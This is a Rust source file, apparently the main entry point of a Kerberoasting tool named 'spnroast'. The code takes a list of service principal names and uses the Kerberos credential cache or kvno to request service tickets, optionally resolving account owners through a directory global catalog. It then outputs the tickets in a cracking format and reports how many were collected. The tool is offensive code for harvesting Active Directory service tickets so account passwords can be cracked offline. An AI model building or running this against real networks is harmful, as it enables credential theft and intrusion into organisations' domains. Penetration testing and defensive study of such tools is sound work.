use clap::Parser;
use spnroast::args::Args;
use spnroast::format::EncodedOutput;
use spnroast::kerberos::ccache::resolve_ccache_path;
use spnroast::kerberos::{CachedTicketAcquirer, KvnoAcquirer};
use spnroast::{roast, DirectoryResolver, NoResolver, Report, RoastOptions, Sink, TicketAcquirer};

fn main() {
    let args = Args::parse();
    spnroast::debug::init_logging(args.verbose);

    if let Err(e) = run(&args) {
        eprintln!("[!] {}", e);
        std::process::exit(1);
    }
}

fn run(args: &Args) -> spnroast::Result<()> {
    let ccache = resolve_ccache_path(args.ccache.as_deref())?;
    eprintln!("[*] Using credential cache {}", ccache.display());

    let acquirer: Box<dyn TicketAcquirer + Sync> = if args.no_request {
        Box::new(CachedTicketAcquirer::new(ccache))
    } else {
        Box::new(KvnoAcquirer::with_program(&args.kvno, ccache))
    };

    let options = RoastOptions {
        format: args.crack_format(),
        sink: Sink::from_path(args.output.clone()),
        workers: args.workers,
    };

    let spns = args
        .spn_source()
        .map_err(|e| ("Failed to read SPN list", e))?;

    let report = match args.directory_config()? {
        Some(config) => {
            eprintln!("[*] Resolving SPN owners through {}", config.global_catalog_url());
            let mut resolver = DirectoryResolver::connect(&config)?;
            roast(spns, &mut resolver, acquirer.as_ref(), &options)?
        }
        None => roast(spns, &mut NoResolver, acquirer.as_ref(), &options)?,
    };

    print_report(&report, &options.sink)
}

fn print_report(report: &Report, sink: &Sink) -> spnroast::Result<()> {
    for notice in report.notices() {
        eprintln!("[!] {}", notice);
    }

    match (&report.output, sink) {
        (Some(output), _) => {
            let text = output.to_text()?;
            match output {
                EncodedOutput::Dump(_) => println!("{}", text),
                _ => print!("{}", text),
            }
        }
        (None, Sink::File(path)) => {
            eprintln!("\x1b[32m[+] Results saved to: {}\x1b[0m", path.display())
        }
        (None, Sink::Return) => {}
    }

    eprintln!(
        "\x1b[32m[+] Kerberoast complete: {} ticket(s), {} skipped\x1b[0m",
        report.records,
        report.skipped.len()
    );
    Ok(())
}
